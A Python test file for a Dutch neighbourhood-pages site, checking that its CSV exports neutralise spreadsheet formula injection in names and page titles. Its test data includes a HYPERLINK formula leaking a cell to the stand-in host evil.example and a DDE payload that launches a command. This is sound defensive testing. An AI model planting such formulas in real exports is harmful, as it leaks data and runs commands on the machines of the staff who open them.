"""CSV exports never hand a spreadsheet a formula: cells that a spreadsheet program would
evaluate (starting with = + - @, a tab or a carriage return) are neutralised with a quote."""

import csv
import io

from buurtpages.models import Registration
from kernel.roles import BUURT_ADMIN, CONNECTOR
from tests.base import client_for, inside, logged_in
from tests.test_rsvp import small_activity
from tests.test_trainings_portal import municipalities, portal_client

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "\t=1+2",
    "\r=1+2",
]


def rows_of(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_organiser_csv_neutralises_formula_names(alpha):
    activity = small_activity(alpha, capacity=None)
    with inside(alpha):
        for number, name in enumerate(["Anna", *FORMULAS]):
            Registration.objects.create(
                activity=activity,
                occurrence_start=activity.start,
                name=name,
                email=f"p{number}@example.nl",
                status=Registration.Status.CONFIRMED,
            )
    organiser = logged_in(alpha, "org@example.nl", CONNECTOR)
    rows = rows_of(organiser.get(f"/admin/activiteiten/{activity.pk}/aanmeldingen/?export=csv"))
    names = sorted(row[1] for row in rows[1:])
    assert names == sorted(["Anna", *(f"'{name}" for name in FORMULAS)])
    assert "p1@example.nl" in {row[2] for row in rows[1:]}  # other cells stay as they are


def test_municipality_csv_neutralises_a_formula_buurt_name(alpha, beta):
    north, _south = municipalities(alpha, beta)
    alpha.name = '=HYPERLINK("http://evil.example","Alphabuurt")'
    alpha.save(update_fields=["name"])
    rows = rows_of(portal_client("noord-medewerker", north).get("/dashboard/buurten.csv"))
    assert rows[1][:2] == ["Gemeente Noord", "'" + alpha.name]
    # The numbers themselves stay numbers.
    assert all(cell.isdigit() for cell in rows[1][3:-1])
    assert client_for(alpha).get("/").status_code == 200


def test_wagtail_report_csv_neutralises_a_formula_page_title(alpha):
    """Wagtail's own exports (reports, listings) write CSV too: a resident can title a
    page with a formula that a beheerder then opens in a spreadsheet."""
    activity = small_activity(alpha, capacity=None)
    with inside(alpha):
        activity.title = FORMULAS[0]
        activity.save_revision().publish()
    beheerder = logged_in(alpha, "beheer@example.nl", BUURT_ADMIN)
    response = beheerder.get("/admin/reports/site-history/?export=csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert FORMULAS[0] not in cells
    assert "Taartjes bakken" in cells  # positive control: the earlier title is there as it was
